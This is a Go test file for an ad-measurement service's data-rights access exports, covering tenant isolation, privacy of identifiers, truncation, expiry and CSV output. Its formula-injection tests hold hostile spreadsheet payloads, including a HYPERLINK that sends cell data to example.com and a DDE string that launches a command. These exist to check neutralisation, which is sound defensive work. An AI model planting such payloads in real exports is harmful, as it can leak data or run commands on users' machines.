package rights_test

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/admeter/admeter"
	"github.com/admeter/admeter/rights"
	"github.com/admeter/admeter/store/storetest"
)

// csvHeader is the header row of an access copy in CSV.
var csvHeader = []string{"time", "received", "kind", "campaign", "placement", "country", "province", "city",
	"network_block", "area", "os", "os_version", "device_type", "model", "browser", "app", "app_package", "connection", "id_type",
	"view", "video_progress", "conversion_type", "value", "currency"}

// readCSV checks the byte order mark and parses the CSV of a copy.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with a UTF-8 byte order mark: %q", b[:min(len(b), 16)])
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.Comment = '#'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v\n%s", err, b)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("CSV header %v, want %v", rows, csvHeader)
	}
	return rows[1:]
}

// TestAccess: the access copy holds exactly the device's events in the
// requesting tenant's campaigns, found under every live key version and
// every identifier the request names, with what the events say of the
// device, and never an identifier or pseudonym.
func TestAccess(t *testing.T) {
	h := newHarness(t, nil)
	a, b := h.tenant("A"), h.tenant("B")
	t0 := time.Date(2026, 9, 20, 8, 0, 0, 123e6, time.UTC)
	full := h.ev(a, "10000001", victim, 1, t0, storetest.Details(), storetest.Placement("p7"), storetest.Received(t0.Add(2*time.Second)))
	click := h.ev(a, "10000002", victim, 2, t0.Add(24*time.Hour))
	click.Kind = admeter.KindClick
	plain := h.ev(a, "10000001", victim, 2, t0.Add(time.Hour))
	h.insert(
		full, click,
		h.ev(b, "30000001", victim, 1, t0),              // the same device at another tenant
		h.ev(a, "10000001", bystander, 1, t0),           // another device
		h.ev(a, "10000001", "", 1, t0, storetest.VF(1)), // anonymous
	)
	h.insert(plain)

	// The device named by an IDFA (no event under it) and its OAID.
	r, _ := h.submit(a, rights.Submission{Type: "access", IDs: []rights.SubmissionID{{IDType: "idfa", ID: idfa}, {IDType: "oaid", ID: victim}}})
	h.clock.Add(time.Minute)
	h.process(1)
	done := h.get(a, r.ID)
	if done.Status != admeter.RequestDone || !reflect.DeepEqual(done.Outcome, admeter.RequestOutcome{Events: 3, Campaigns: 2}) {
		t.Fatalf("access request: status %s, outcome %+v; want 3 events in 2 campaigns", done.Status, done.Outcome)
	}
	if h.registry.Len() != 0 {
		t.Error("an access request opted the device out")
	}

	exp, err := h.svc.Export(t.Context(), a, r.ID)
	if err != nil {
		t.Fatal(err)
	}
	if exp.Request != r.ID || exp.Tenant != a || exp.IDType != "idfa" || exp.Truncated || !exp.Generated.Equal(start.Add(time.Minute)) || len(exp.Events) != 3 {
		t.Fatalf("export %+v", exp)
	}
	// Ordered by event time.
	want := []struct {
		at       time.Time
		kind     string
		campaign admeter.CampaignID
	}{{t0, "impression", "10000001"}, {t0.Add(time.Hour), "impression", "10000001"}, {t0.Add(24 * time.Hour), "click", "10000002"}}
	for i, w := range want {
		e := exp.Events[i]
		if !e.Time.Equal(w.at) || e.Kind != w.kind || e.Campaign != w.campaign || e.IDType != "oaid" {
			t.Errorf("event %d: %+v, want %s %s in %s", i, e, w.at, w.kind, w.campaign)
		}
	}
	wantFull := rights.ExportEvent{
		Time: t0, Received: t0.Add(2 * time.Second), Kind: "impression", Campaign: "10000001", Placement: "p7",
		Country: "CN", Province: "广东", City: "深圳", Network: full.Net.String(), Area: full.Area.String(),
		OS: "android", OSVersion: "14", DeviceType: "phone", Model: "Pixel 8", Browser: "Chrome",
		App: "新闻", AppPackage: "com.example.news", Connection: "wifi", IDType: "oaid",
	}
	if got := exp.Events[0]; got != wantFull {
		t.Errorf("event with every detail:\n got %+v\nwant %+v", got, wantFull)
	}
	if e := exp.Events[1]; e.OS != "" || e.DeviceType != "" || e.Area != "" || e.Connection != "" || e.Country != "" {
		t.Errorf("event without details shows some: %+v", e)
	}

	// The copy on disk is private and names no identifier or pseudonym.
	path := filepath.Join(h.cfg.ExportDir, r.ID+".json")
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("access copy mode %v, want 0600", fi.Mode().Perm())
	}
	data, _ := os.ReadFile(path)
	for _, p := range append(done.Users, done.OptOut...) {
		if bytes.Contains(data, []byte(hex.EncodeToString(p[:]))) {
			t.Error("the access copy holds a pseudonym")
		}
	}
	if bytes.Contains(bytes.ToLower(data), []byte(victim)) || bytes.Contains(bytes.ToLower(data), []byte(strings.ToLower(idfa))) {
		t.Error("the access copy holds an identifier")
	}

	rows := readCSV(t, exp.CSV())
	if len(rows) != 3 {
		t.Fatalf("CSV has %d rows, want 3", len(rows))
	}
	wantRow := []string{t0.Format(time.RFC3339Nano), t0.Add(2 * time.Second).Format(time.RFC3339Nano), "impression", "10000001", "p7",
		"CN", "广东", "深圳", full.Net.String(), full.Area.String(), "android", "14", "phone", "Pixel 8", "Chrome", "新闻", "com.example.news", "wifi", "oaid",
		"", "", "", "", ""}
	if !slices.Equal(rows[0], wantRow) {
		t.Errorf("CSV row\n got %q\nwant %q", rows[0], wantRow)
	}
	if rows[2][2] != "click" || rows[2][3] != "10000002" {
		t.Errorf("CSV last row %q", rows[2])
	}
	if bytes.Contains(exp.CSV(), []byte("# truncated")) {
		t.Error("a complete copy says it is truncated")
	}

	// The other tenant's copy of the same device holds only its event.
	rb, _ := h.submit(b, oaid("access", victim))
	h.process(1)
	if exp, err := h.svc.Export(t.Context(), b, rb.ID); err != nil || len(exp.Events) != 1 || exp.Events[0].Campaign != "30000001" {
		t.Errorf("tenant B's copy: %v, %+v", err, exp)
	}
}

// TestAccessPostLink: an access copy shows what the device's viewability,
// video and conversion events say: the result, the progress, and a
// conversion's type and value, in JSON and CSV.
func TestAccessPostLink(t *testing.T) {
	h := newHarness(t, nil)
	tn := h.tenant("A")
	t0 := time.Date(2026, 9, 20, 8, 0, 0, 0, time.UTC)
	u := h.user(victim, 1)
	device := func(e *admeter.Event) { e.User, e.UserType = u, admeter.IDOAID }
	h.insert(
		h.ev(tn, "10000001", victim, 1, t0, storetest.VF(1), storetest.View(admeter.ViewStarted)),
		storetest.Viewed(t0.Add(time.Second), admeter.ViewViewable, storetest.Tenant(tn), storetest.Campaign("10000001"), storetest.VF(1), device),
		storetest.VideoPing(t0.Add(2*time.Second), admeter.Progress75, storetest.Tenant(tn), storetest.Campaign("10000001"), storetest.VF(1), device),
		storetest.Conversion(t0.Add(time.Hour), 1, "order", storetest.Tenant(tn), storetest.Value(129_900_000, "CNY"), device),
	)
	r, _ := h.submit(tn, oaid("access", victim))
	h.process(1)
	exp, err := h.svc.Export(t.Context(), tn, r.ID)
	if err != nil || len(exp.Events) != 4 {
		t.Fatalf("export: %v, %+v", err, exp)
	}
	type got struct{ kind, view, progress, typ, value, currency string }
	want := []got{{"impression", "started", "", "", "", ""}, {"viewability", "viewable", "", "", "", ""},
		{"video", "", "75", "", "", ""}, {"conversion", "", "", "order", "129.9", "CNY"}}
	for i, e := range exp.Events {
		if g := (got{e.Kind, e.View, e.VideoProgress, e.ConversionType, e.Value, e.Currency}); g != want[i] {
			t.Errorf("event %d: %+v, want %+v", i, g, want[i])
		}
	}
	rows := readCSV(t, exp.CSV())
	if last := rows[3]; !slices.Equal(last[len(last)-5:], []string{"", "", "order", "129.9", "CNY"}) || last[2] != "conversion" {
		t.Errorf("CSV conversion row %q", last)
	}
}

// TestAccessTruncated: a device with more events than one copy holds gets
// the first ones, flagged as truncated in JSON and CSV.
func TestAccessTruncated(t *testing.T) {
	h := newHarness(t, func(c *rights.Config) { c.MaxExportEvents = 2 })
	tn := h.tenant("A")
	t0 := time.Date(2026, 9, 20, 8, 0, 0, 0, time.UTC)
	h.insert(h.ev(tn, "10000001", victim, 1, t0.Add(2*time.Hour)), h.ev(tn, "10000001", victim, 1, t0), h.ev(tn, "10000001", victim, 2, t0.Add(time.Hour)))
	r, _ := h.submit(tn, oaid("access", victim))
	h.process(1)
	if got := h.get(tn, r.ID).Outcome; !reflect.DeepEqual(got, admeter.RequestOutcome{Events: 2, Campaigns: 1, Truncated: true}) {
		t.Errorf("outcome %+v, want 2 events, truncated", got)
	}
	exp, err := h.svc.Export(t.Context(), tn, r.ID)
	if err != nil || !exp.Truncated || len(exp.Events) != 2 || !exp.Events[0].Time.Equal(t0) || !exp.Events[1].Time.Equal(t0.Add(time.Hour)) {
		t.Fatalf("truncated export: %v %+v", err, exp)
	}
	b := exp.CSV()
	if rows := readCSV(t, b); len(rows) != 2 {
		t.Errorf("truncated CSV has %d rows, want 2", len(rows))
	}
	if !bytes.HasSuffix(b, []byte("# truncated: the device has more events than one copy holds (2)\n")) {
		t.Errorf("truncated CSV does not say so:\n%s", b)
	}
}

// TestCSVFormulas: text from ad requests (app names and the like) that a
// spreadsheet would run as a formula is neutralised in the CSV, and kept as
// it is in JSON.
func TestCSVFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://example.com/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"}
	exp := &rights.Export{}
	for _, s := range evil {
		exp.Events = append(exp.Events, rights.ExportEvent{Kind: "impression", App: s, Model: s, Browser: "Safari", OSVersion: "17.1"})
	}
	rows := readCSV(t, exp.CSV())
	if len(rows) != len(evil) {
		t.Fatalf("%d rows, want %d", len(rows), len(evil))
	}
	for i, row := range rows {
		for _, col := range []int{13, 15} { // model, app
			if got, want := row[col], "'"+evil[i]; got != want {
				t.Errorf("row %d column %s = %q, want %q", i, csvHeader[col], got, want)
			}
		}
		if row[14] != "Safari" || row[11] != "17.1" {
			t.Errorf("row %d: harmless text changed: %q", i, row)
		}
	}
}

// TestExportErrors: a copy is only for the tenant's own, finished access
// request, and goes after its time to live.
func TestExportErrors(t *testing.T) {
	h := newHarness(t, nil)
	a, b := h.tenant("A"), h.tenant("B")
	h.insert(h.ev(a, "10000001", victim, 1, start.Add(-time.Hour)))
	r, _ := h.submit(a, oaid("access", victim))
	if _, err := h.svc.Export(t.Context(), a, r.ID); admeter.ErrorCode(err) != admeter.ECONFLICT || !strings.Contains(admeter.ErrorMessage(err), "not ready") {
		t.Errorf("Export of an open request: %v, want ECONFLICT", err)
	}
	h.process(1)
	del, _ := h.submit(a, oaid("delete", bystander))
	for _, tc := range []struct {
		name   string
		tenant admeter.TenantID
		id     string
		code   string
	}{
		{"another tenant's", b, r.ID, admeter.ENOTFOUND},
		{"unknown", a, "rq_aaaaaaaaaaaa", admeter.ENOTFOUND},
		{"a delete request's", a, del.ID, admeter.EINVALID},
	} {
		if exp, err := h.svc.Export(t.Context(), tc.tenant, tc.id); admeter.ErrorCode(err) != tc.code {
			t.Errorf("Export of %s request: %+v, %v; want %s", tc.name, exp, err, tc.code)
		}
	}
	if _, err := h.svc.Export(t.Context(), a, r.ID); err != nil {
		t.Fatal(err)
	}

	// Another tenant's copy under this tenant's request id (a copy moved
	// by hand) is not served.
	other, _ := h.submit(b, oaid("access", victim))
	h.process(2)
	data, err := os.ReadFile(filepath.Join(h.cfg.ExportDir, other.ID+".json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(h.cfg.ExportDir, r.ID+".json"), data, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := h.svc.Export(t.Context(), a, r.ID); admeter.ErrorCode(err) != admeter.ENOTFOUND {
		t.Errorf("Export of a copy that names another tenant: %v, want ENOTFOUND", err)
	}
}

// TestExpireExports: copies are kept ExportTTL from when they were made, by
// the service's clock, then removed.
func TestExpireExports(t *testing.T) {
	h := newHarness(t, nil) // ExportTTL 30 days
	tn := h.tenant("A")
	h.insert(h.ev(tn, "10000001", victim, 1, start.Add(-time.Hour)))
	r1, _ := h.submit(tn, oaid("access", victim))
	h.process(1)
	h.clock.Add(10 * 24 * time.Hour)
	r2, _ := h.submit(tn, oaid("access", bystander))
	h.process(1)

	expire := func(want int) {
		t.Helper()
		if n, err := h.svc.ExpireExports(t.Context()); n != want || err != nil {
			t.Errorf("at %v: ExpireExports = %d, %v; want %d", h.clock.Now(), n, err, want)
		}
	}
	h.clock.Set(start.Add(30 * 24 * time.Hour)) // exactly the TTL: kept
	expire(0)
	if _, err := h.svc.Export(t.Context(), tn, r1.ID); err != nil {
		t.Errorf("copy removed before its time: %v", err)
	}
	h.clock.Add(time.Second)
	expire(1)
	if _, err := h.svc.Export(t.Context(), tn, r1.ID); admeter.ErrorCode(err) != admeter.ENOTFOUND || !strings.Contains(admeter.ErrorMessage(err), "30 days") {
		t.Errorf("Export of an expired copy: %v, want ENOTFOUND saying copies are kept 30 days", err)
	}
	if _, err := h.svc.Export(t.Context(), tn, r2.ID); err != nil {
		t.Errorf("the younger copy went too: %v", err)
	}
	h.clock.Add(10 * 24 * time.Hour)
	expire(1)
	expire(0)

	// No directory yet is not an error.
	h2 := newHarness(t, nil)
	if n, err := h2.svc.ExpireExports(t.Context()); n != 0 || err != nil {
		t.Errorf("ExpireExports without a directory = %d, %v", n, err)
	}
}

// TestSocialCSV: the copy of a social account lists its records, a text
// that a spreadsheet would run shown as text, numbers as numbers.
func TestSocialCSV(t *testing.T) {
	at := time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)
	exp := &rights.Export{IDType: "social", SocialRecords: []rights.ExportPost{
		{Time: at, Received: at, Source: "weibo", Kind: "post", Text: "华为真好", Likes: 3, Sentiment: 0.5},
		{Time: at, Received: at, Source: "weibo", Kind: "comment", Text: "=HYPERLINK(\"x\")", Sentiment: -0.25},
	}}
	b := exp.CSV()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"time", "received", "source", "kind", "text", "likes", "comments", "shares", "views", "sentiment"},
		{"2026-12-01T08:00:00Z", "2026-12-01T08:00:00Z", "weibo", "post", "华为真好", "3", "0", "0", "0", "0.500"},
		{"2026-12-01T08:00:00Z", "2026-12-01T08:00:00Z", "weibo", "comment", "'=HYPERLINK(\"x\")", "0", "0", "0", "0", "-0.250"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("CSV =\n%q\nwant\n%q", rows, want)
	}
}
